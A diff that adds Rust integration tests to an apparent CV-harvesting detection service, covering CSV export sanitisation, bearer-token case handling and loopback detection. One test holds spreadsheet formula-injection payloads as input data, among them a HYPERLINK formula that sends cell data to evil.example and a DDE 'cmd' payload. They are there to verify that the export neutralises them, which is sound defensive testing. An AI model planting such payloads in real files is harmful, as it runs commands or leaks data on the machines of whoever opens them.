@@ -291,6 +291,95 @@ fn incidents_filter_page_and_move_through_their_lifecycle_with_an_audit_trail() 
     assert_eq!(r["per_vacancy"], 100);
 }
 
+#[test]
+fn the_affected_csv_neutralises_cv_ids_a_spreadsheet_would_run_as_formulas() {
+    let api = start();
+    // CV ids come from whoever sends events: some of these would run in a spreadsheet.
+    let hostile = [
+        r#"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"#,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\\tcv-tab",
+        "cv,with;separators",
+    ];
+    let ids: Vec<String> = hostile.iter().map(|h| format!("\"{h}\"")).collect();
+    let first = format!(
+        r#"{{"ts":{},"event_id":"hostile","account_id":"harvester-1","action":"cv_download","cv_ids":[{}],"cv_visibility":"named","ip":"198.51.100.66"}}"#,
+        cvguard_tests::kafka::HARVEST_T0,
+        ids.join(",")
+    );
+    let mut lines = vec![first];
+    lines.extend((0..21).map(|i| harvest_batch("harvester-1", i)));
+    api.ingest(&lines);
+    let list = api.wait_for(|l| l.iter().any(|i| i["rule"] == "mass-harvest-24h"));
+    let id = list.iter().find(|i| i["rule"] == "mass-harvest-24h").unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let (c, csv) = api.call(Some("viewer"), "GET", &format!("/v1/incidents/{id}/affected.csv"), b"");
+    assert_eq!(c, 200);
+    for line in csv.lines() {
+        assert!(!line.starts_with(['=', '+', '-', '@', '\t', '\r']), "{line:?}");
+    }
+    for expected in [
+        r#""'=HYPERLINK(""http://evil.example/?""&A1,""open"")",2024-05-04T04:00:00.000Z,cv_download,named"#,
+        "'+1+cmd|' /C calc'!A0,2024-05-04T04:00:00.000Z,cv_download,named",
+        "'-2+3,2024-05-04T04:00:00.000Z,cv_download,named",
+        r#""'@SUM(1,1)",2024-05-04T04:00:00.000Z,cv_download,named"#,
+        "'\tcv-tab,2024-05-04T04:00:00.000Z,cv_download,named",
+        r#""cv,with;separators",2024-05-04T04:00:00.000Z,cv_download,named"#,
+    ] {
+        assert!(
+            csv.lines().any(|l| l == expected),
+            "no line {expected:?} in:\n{}",
+            &csv[..600.min(csv.len())]
+        );
+    }
+    assert_eq!(csv.lines().count() - 1, 21 * 200 + hostile.len());
+}
+
+#[test]
+fn the_bearer_scheme_is_case_insensitive() {
+    let api = start();
+    for scheme in ["Bearer", "bearer", "BEARER"] {
+        let auth = format!("{scheme} {}", api.tok("viewer"));
+        let (code, body) = http_with(api.port, "GET", "/v1/incidents", &[("Authorization", &auth)], b"").unwrap();
+        assert_eq!(code, 200, "{scheme}: {body}");
+    }
+    let auth = format!("bearer {}", api.tok("viewer"));
+    let (code, _) = http_with(api.port, "GET", "/v1/rules", &[("authorization", &auth)], b"").unwrap();
+    assert_eq!(code, 200);
+    let (code, _) = http_with(
+        api.port,
+        "GET",
+        "/v1/incidents",
+        &[("Authorization", "bearer cvg_nope")],
+        b"",
+    )
+    .unwrap();
+    assert_eq!(code, 401);
+}
+
+#[test]
+fn without_tokens_an_ipv4_client_of_a_dual_stack_listener_on_loopback_is_loopback() {
+    // Listening on [::], an IPv4 client arrives as ::ffff:127.0.0.1.
+    let dir = tempfile::tempdir().unwrap();
+    let port = free_port();
+    let text = config_text(dir.path(), port, "", 4000).replace(
+        &format!("listen = \"127.0.0.1:{port}\""),
+        &format!("listen = \"[::]:{port}\""),
+    );
+    let config = dir.path().join("cvguard.toml");
+    std::fs::write(&config, text).unwrap();
+    let mut svc = Service::start(&config, port, &dir.path().join("serve.log"));
+    svc.wait_ready(WAIT);
+    let (code, body) = http_with(port, "GET", "/v1/incidents", &[], b"").unwrap();
+    assert_eq!(code, 200, "{body}\n{}", svc.log_text());
+    let (code, _) = http_with(port, "GET", "/v1/rules", &[], b"").unwrap();
+    assert_eq!(code, 200);
+}
+
 fn parse_metrics(text: &str) -> Vec<(String, f64)> {
     text.lines()
         .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
